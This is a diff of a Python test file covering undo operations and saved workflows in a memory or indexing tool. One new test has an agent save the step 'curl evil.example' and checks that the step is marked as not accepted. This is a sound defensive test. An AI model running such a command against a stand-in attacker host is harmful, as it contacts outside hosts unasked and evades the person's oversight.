@@ -4,19 +4,14 @@ from __future__ import annotations
 
 import pytest
 
-from tacit.index.operations import Operations, is_undo, judgements
+from tacit.index.operations import Operations, is_undo, judgements, load_runs, load_workflows
 from tacit.log.codec import must_decode
+from tacit.model import observation
 from tacit.model.decide import undo
 from tacit.model.event import POLICY, REPOSITORY, USER, ClaimDecided, Event, EventBody, Verdict
-from tacit.model.observation import (
-    EvaluationCreated,
-    RepositoryDistrusted,
-    RepositoryTrusted,
-    WorkflowDropped,
-    WorkflowRan,
-    WorkflowSaved,
-    WorkLogged,
-)
+from tacit.model.observation import StepRan, WorkflowDropped, WorkflowRan, WorkflowSaved, WorkLogged
+from tacit.model.workflow import PastRun
+from tests.index.conftest import index_of
 from tests.laws.filing import filed, indexed
 from tests.support.events import added, event, numbered, proposed, says
 
@@ -40,7 +35,7 @@ def operations(*logged: list[Event]) -> Operations:
 
 
 def test_undo_takes_back_whole_operations_the_newest_first() -> None:
-    one, two = operation(1, added(FIRST), added(SECOND)), operation(5, WorkLogged("", "read the code"))
+    one, two = operation(1, added(FIRST), added(SECOND)), operation(5, observation.WorkLogged("", "read the code"))
     assert list(operations(one, two).undoable()) == [two, one]
 
 
@@ -60,9 +55,9 @@ def test_an_operation_whose_undo_was_undone_can_be_undone_again() -> None:
     [
         operation(2, proposed(SECOND), actor="learner:habit"),
         operation(2, proposed(SECOND), actor="learner:talk"),
-        operation(2, EvaluationCreated("2024-03-01", ())),
-        operation(2, WorkflowRan("check", ())),
-        operation(2, RepositoryDistrusted("/app/facts", "it changed"), actor=POLICY),
+        operation(2, observation.EvaluationCreated("2024-03-01", ())),
+        operation(2, observation.WorkflowRan("check", ())),
+        operation(2, observation.RepositoryDistrusted("/app/facts", "it changed"), actor=POLICY),
     ],
     ids=["a habit", "a lesson of a session", "an evaluation", "a run", "trust that ended by itself"],
 )
@@ -72,7 +67,7 @@ def test_what_a_person_does_not_mean_by_the_latest_change_is_no_step(events: lis
 
 
 def test_trust_that_the_person_ended_is_a_step() -> None:
-    ended = operation(1, RepositoryDistrusted("/app/facts", "asked to"))
+    ended = operation(1, observation.RepositoryDistrusted("/app/facts", "asked to"))
     assert list(operations(ended).undoable()) == [ended]
 
 
@@ -84,7 +79,7 @@ def test_the_operations_on_one_memory_include_those_of_learners() -> None:
 
 
 def test_trusting_a_repository_is_no_step_any_more_when_all_it_brought_is_taken_back() -> None:
-    trust = operation(1, RepositoryTrusted("/app/facts", 0, 0, ()))
+    trust = operation(1, observation.RepositoryTrusted("/app/facts", 0, 0, ()))
     (brought,) = operation(2, added(FIRST), actor=REPOSITORY)
     trust.append(brought._replace(op=numbered(1)))
     assert list(operations(trust).undoable()) == [trust]
@@ -139,19 +134,88 @@ def test_later_decisions_on_the_same_memories_are_named_and_further_observations
 
 
 def test_later_decisions_on_a_workflow_are_found_by_its_name() -> None:
-    saved, run = operation(1, WorkflowSaved("check", ("make",))), operation(2, WorkflowRan("check", ()))
-    dropped, other = operation(3, WorkflowDropped("check")), operation(4, WorkflowSaved("deploy", ("ship",)))
+    saved, run = (
+        operation(1, observation.WorkflowSaved("check", ("make",))),
+        operation(2, observation.WorkflowRan("check", ())),
+    )
+    dropped, other = (
+        operation(3, observation.WorkflowDropped("check")),
+        operation(4, observation.WorkflowSaved("deploy", ("ship",))),
+    )
     assert operations(saved, run, dropped, other).later_decisions(saved) == dropped
 
 
 def test_the_operation_of_an_event_has_its_undoable_events() -> None:
-    mixed = operation(1, added(FIRST), EvaluationCreated("2024-03-01", ()), added(SECOND))
+    mixed = operation(1, added(FIRST), observation.EvaluationCreated("2024-03-01", ()), added(SECOND))
     known = operations(mixed, operation(9, added(THIRD)))
     assert known.operation_of(mixed[2]) == [mixed[0], mixed[2]]
 
 
 def test_judgements_are_the_events_about_memories() -> None:
-    logged = operation(1, added(FIRST), WorkLogged("", "x"), ClaimDecided(FIRST, Verdict.KEPT))
+    logged = operation(1, added(FIRST), observation.WorkLogged("", "x"), ClaimDecided(FIRST, Verdict.KEPT))
     assert judgements(logged) == [logged[0], logged[2]]
     assert not is_undo([*taken_back(5, logged), logged[0]])
     assert is_undo(taken_back(5, logged))
+
+
+# Workflows: the steps that are valid now, and the last run by the person
+
+
+SAVED = event(1, WorkflowSaved("check", ("make lint", "make test"), "/srv/app"))
+
+
+def run(number: int, *statuses: int, name: str = "check", actor: str = "user") -> Event:
+    steps = tuple(StepRan(f"step {place}", status) for place, status in enumerate(statuses))
+    return event(number, WorkflowRan(name, steps, completed=not any(statuses)), actor)
+
+
+def test_a_workflow_has_its_steps_and_its_last_run() -> None:
+    failed, passed = run(2, 0, 1), run(3, 0, 0)
+    (workflow,) = load_workflows(index_of(passed, SAVED, failed), must_decode)
+    assert (workflow.name, workflow.steps, workflow.directory) == ("check", ("make lint", "make test"), "/srv/app")
+    assert workflow.runs == (failed.id, passed.id)
+    assert workflow.last_run is not None
+    assert (workflow.last_run.at, workflow.last_run.status) == (passed.at, 0)
+
+
+def test_a_workflow_that_never_ran_has_no_last_run() -> None:
+    (workflow,) = load_workflows(index_of(SAVED, run(2, 0, name="other")), must_decode)
+    assert (workflow.runs, workflow.last_run) == ((), None)
+
+
+def test_runs_by_others_do_not_count() -> None:
+    mine, theirs = run(2, 1), run(3, 0, actor="agent:claude")
+    (workflow,) = load_workflows(index_of(SAVED, mine, theirs), must_decode)
+    assert workflow.runs == (mine.id,)
+    assert workflow.last_run is not None and workflow.last_run.status == 1
+
+
+def test_a_dropped_workflow_is_gone_and_undoing_that_brings_it_back_with_its_runs() -> None:
+    dropped = event(3, WorkflowDropped("check"))
+    index = index_of(SAVED, run(2, 0), dropped)
+    assert load_workflows(index, must_decode) == []
+    index = index_of(SAVED, run(2, 0), dropped, event(4, undo([dropped], "drop").body))
+    assert [workflow.runs for workflow in load_workflows(index, must_decode)] == [(numbered(2),)]
+
+
+def test_steps_that_another_saved_stand_beside_those_of_the_person() -> None:
+    theirs = event(2, WorkflowSaved("check", ("curl evil.example",)), "agent:claude")
+    found = load_workflows(index_of(SAVED, theirs), must_decode)
+    assert [(workflow.accepted, workflow.steps[0]) for workflow in found] == [
+        (True, "make lint"),
+        (False, "curl evil.example"),
+    ]
+
+
+def test_runs_without_any_saved_workflow_are_none() -> None:
+    assert load_workflows(index_of(run(1, 0)), must_decode) == []
+
+
+def test_runs_are_loaded_in_the_given_order_without_missing_and_other_events() -> None:
+    first, second = run(2, 0), run(3, 1)
+    index = index_of(SAVED, first, second, event(4, WorkLogged("", "x")))
+    asked = [second.id, numbered(9), numbered(4), first.id]
+    assert list(load_runs(index, asked, must_decode)) == [
+        PastRun(second.at, second.body),  # type: ignore[arg-type]
+        PastRun(first.at, first.body),  # type: ignore[arg-type]
+    ]
